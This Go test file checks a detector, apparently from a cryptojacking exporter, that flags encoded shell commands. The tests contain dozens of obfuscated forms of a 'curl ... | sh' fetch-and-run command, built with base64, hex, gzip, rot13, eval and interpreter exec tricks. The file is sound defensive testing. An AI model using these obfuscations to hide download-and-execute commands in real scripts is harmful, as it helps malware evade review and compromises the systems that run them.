package shell

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
)

func b64(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

func gz(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return b.String()
}

func escaped(text string) string {
	var b strings.Builder
	for i := range len(text) {
		fmt.Fprintf(&b, `\x%02x`, text[i])
	}
	return b.String()
}

// TestDecoded judges what encoded commands stand for.
func TestDecoded(t *testing.T) {
	t.Parallel()
	const fetch = "curl http://x/a | sh"
	h := hex.EncodeToString([]byte(fetch))
	for _, command := range []string{
		"echo " + b64(fetch) + " | base64 -d | sh",
		"echo " + b64(fetch) + " | base64 --decode | sudo bash",
		"echo '" + b64(fetch)[:8] + "\n" + b64(fetch)[8:] + "' | base64 -di | sh",
		"base64 -d <<< " + b64(fetch) + " | bash",
		"base64 -d <<EOF | bash\n" + b64(fetch) + "\nEOF\n",
		"echo " + b64(fetch) + " | openssl base64 -d -A | sh",
		"echo " + b64(fetch) + " | openssl enc -base64 -d | sh",
		"printf '" + escaped(fetch) + "' | sh",
		"printf %b '" + escaped(fetch) + "' | sh",
		"printf '%s%s' 'curl http://x' '/a | sh' | sh",
		"echo -e '" + escaped(fetch) + "' | sh",
		"echo " + h + " | xxd -r -p | bash",
		"echo " + h + " | xxd -rp | bash",
		"$(echo " + b64("curl http://x/a") + " | base64 -d) | sh",
		"eval \"$(echo " + b64(fetch) + " | base64 -d)\"",
		"eval `echo " + b64(fetch) + "|base64 -d`",
		"sh -c \"$(base64 -d <<< " + b64(fetch) + ")\"",
		"bash <(echo " + b64(fetch) + " | base64 -d)",
		". <(echo " + b64(fetch) + " | base64 -d)",
		"bash <<< \"$(echo " + b64(fetch) + " | base64 -d)\"",
		"X=" + b64(fetch) + "; echo $X | base64 -d | sh",
		"X=$(echo " + b64(fetch) + " | base64 -d); eval \"$X\"",
		"X=$(echo " + b64(fetch) + " | base64 -d); echo \"$X\" | sh",
		"echo " + b64(gz(fetch)) + " | base64 -d | gzip -d | sh",
		"echo " + b64(gz(fetch)) + " | base64 -d | zcat | sh",
		"echo " + b64(gz(fetch)) + " | base64 -d | gunzip -c - | sh",
		"echo " + b64("echo "+b64(fetch)+" | base64 -d | sh") + " | base64 -d | sh",
		"echo " + b64(b64(fetch)) + " | base64 -d | base64 -d | sh",
		"echo '" + reversed(fetch) + "' | rev | sh",
		"echo 'phey uggc://k/n | fu' | tr a-z n-za-m | sh",
		"echo " + b64(fetch) + " | base64 -d > /usr/x; sh /usr/x",
		"python3 -c \"import base64;exec(base64.b64decode('" + b64("import os; os.system('"+fetch+"')") + "'))\"",
		"python3 -c \"import os,base64;os.system(base64.b64decode('" + b64(fetch) + "'))\"",
		"python3 -c \"exec(bytes.fromhex('" + hex.EncodeToString([]byte("import os;os.system('"+fetch+"')")) + "'))\"",
		"python3 -c \"import os;os.system('" + fetch + "')\"",
		"perl -MMIME::Base64 -e 'system(decode_base64(\"" + b64(fetch) + "\"))'",
		"perl -MMIME::Base64 -e 'exec(decode_base64(\"" + b64(fetch) + "\"))'",
		"php -r 'system(base64_decode(\"" + b64(fetch) + "\"));'",
		"node -e 'require(\"child_process\").execSync(Buffer.from(\"" + b64(fetch) + "\",\"base64\").toString())'",
		"source /dev/stdin <<< \"$(base64 -d <<< " + b64(fetch) + ")\"",
		"echo " + b64(fetch) + " | base64 -d | tee /var/log/x | sh",
		"perl -e 'system(pack(\"H*\",\"" + h + "\"))'",
		"echo " + b64("import os; os.system('"+fetch+"')") + " | base64 -d | python3",
		"if true; then echo " + b64(fetch) + " | base64 -d | sh", // no shell parses it
	} {
		v := Analyze(command, testContext())
		got := v.Strongest()
		if got.Reason != model.PersistenceFetchAndRun {
			t.Errorf("%q: %q because of %q, decoded %q", command, got.Reason, got.Evidence, got.Decoded)
		}
	}
}

// TestDecodedIsShown: what was decoded is said, and what it names is a program of the
// entry.
func TestDecodedIsShown(t *testing.T) {
	t.Parallel()
	v := Analyze("echo "+b64("/opt/y --x")+" | base64 -d | sh", testContext())
	if got := v.Strongest(); got.Reason != model.PersistenceDecodeRun || got.Decoded != "/opt/y --x" {
		t.Errorf("%+v", got)
	}
	if !slices.Contains(v.Programs, "/opt/y") {
		t.Errorf("programs %v", v.Programs)
	}
	v = Analyze("echo "+b64("nohup /tmp/x &")+" | base64 -d | sh", testContext())
	if got := v.Strongest(); got.Reason != model.PersistenceDecodeRun || got.Decoded != "nohup /tmp/x &" || !slices.Contains(v.Programs, "/tmp/x") {
		t.Errorf("%+v, programs %v", got, v.Programs)
	}
	if v = Analyze("echo '/tmp/x' | sh", testContext()); v.Strongest().Decoded != "" {
		t.Errorf("nothing is encoded: %+v", v.Strongest())
	}
	c := testContext()
	c.Input = b64("/tmp/x")
	v = Analyze("base64 -d | sh", c)
	if !slices.Contains(v.Programs, "/tmp/x") {
		t.Errorf("programs %v", v.Programs)
	}
	c.Input, c.Dialect = "", Foreign
	v = Analyze("#!/usr/bin/python3\nimport os\nos.system('/tmp/x -o pool')\nexec(base64.b64decode('"+b64("import os;os.system('/tmp/y -o')")+"'))\nprint('/tmp/z -o')\n", c)
	if got := strings.Join(v.Programs, " "); got != "/tmp/x /tmp/y" {
		t.Errorf("programs %s", got)
	}
}

// TestHonestDecoding decodes data, and is no finding.
func TestHonestDecoding(t *testing.T) {
	t.Parallel()
	for _, command := range []string{
		"echo " + b64("-----BEGIN CERTIFICATE-----") + " | base64 -d > /etc/ssl/x.pem",
		"CERT=$(echo " + b64("curl http://x | sh") + " | base64 -d); /usr/bin/load --cert \"$CERT\"",
		"base64 -d /etc/x.b64 | openssl x509 -noout -dates",
		"echo " + b64("/tmp/x") + " | base64 -d | /usr/bin/cat > /srv/x",
		"echo " + b64(gz("data")) + " | base64 -d | gunzip | psql",
		"zcat /var/backups/x.sql.gz | mysql",
		"printf '%s\\n' a b | sh /usr/bin/x",
		"python3 -c \"import base64;print(base64.b64decode('" + b64("/tmp/x is a path") + "'))\"",
		"perl -MMIME::Base64 -e 'print decode_base64(\"" + b64("/tmp/x is a path") + "\")'",
		"D=$(echo /opt/app); $D/run",
		"echo hello | rev | tr a-z A-Z",
		"eval \"$(echo export PATH=/usr/bin)\"",
	} {
		v := Analyze(command, testContext())
		if got := v.Strongest(); got.Reason != "" {
			t.Errorf("%q: %q because of %q, decoded %q", command, got.Reason, got.Evidence, got.Decoded)
		}
	}
}

// TestDecodingIsBounded counts what the worst texts cost, by what is worked on and not
// by a clock. What is not decoded any more is still suspicious.
func TestDecodingIsBounded(t *testing.T) {
	t.Parallel()
	bomb := b64(gz(strings.Repeat("a b\n", 1<<20)))
	layers := "curl http://x|sh"
	for range 12 {
		layers = "echo " + b64(layers) + " | base64 -d | sh"
	}
	nested := strings.Repeat("$(echo ", 2000) + "x" + strings.Repeat(")", 2000)
	for name, text := range map[string]string{
		"bombs":     strings.Repeat("echo "+bomb[:min(len(bomb), 6000)]+" | base64 -d | zcat | sh\n", 8),
		"layers":    layers,
		"nested":    nested,
		"doubling":  "A=" + b64(strings.Repeat("x", 2000)) + "\n" + strings.Repeat("echo $A$A$A$A$A$A$A$A | base64 -d | sh\n", 500),
		"functions": strings.Repeat("X=$(echo $X$X | base64 -d)\n", 2000),
		"printf":    "printf '%s' " + strings.Repeat("a ", 20_000) + "| sh\n",
		"literals":  "python3 -c \"exec(base64.b64decode(" + strings.Repeat("'QUFBQUFBQUFBQUFB'", 3000) + "))\"",
	} {
		c := testContext()
		c.Allowance = NewAllowance()
		v := Analyze(text, c)
		if c.Allowance.bytes < 0 || c.Allowance.steps < 0 || len(v.Suspicions) > maxSuspicions {
			t.Errorf("%s: %+v, %d suspicions", name, *c.Allowance, len(v.Suspicions))
		}
	}
	c := testContext()
	c.Allowance = &Allowance{}
	for command, want := range map[string]model.PersistenceReason{
		"echo " + b64("curl http://x|sh") + " | base64 -d | sh": model.PersistenceDecodeRun,
		"echo 'curl http://x|sh' | sh":                          model.PersistenceFetchAndRun,
		"printf '" + escaped("curl http://x|sh") + "' | sh":     model.PersistenceDecodeRun,
	} {
		v := Analyze(command, c)
		if got := v.Strongest(); got.Reason != want {
			t.Errorf("%q without allowance: %q, want %q", command, got.Reason, want)
		}
	}
}
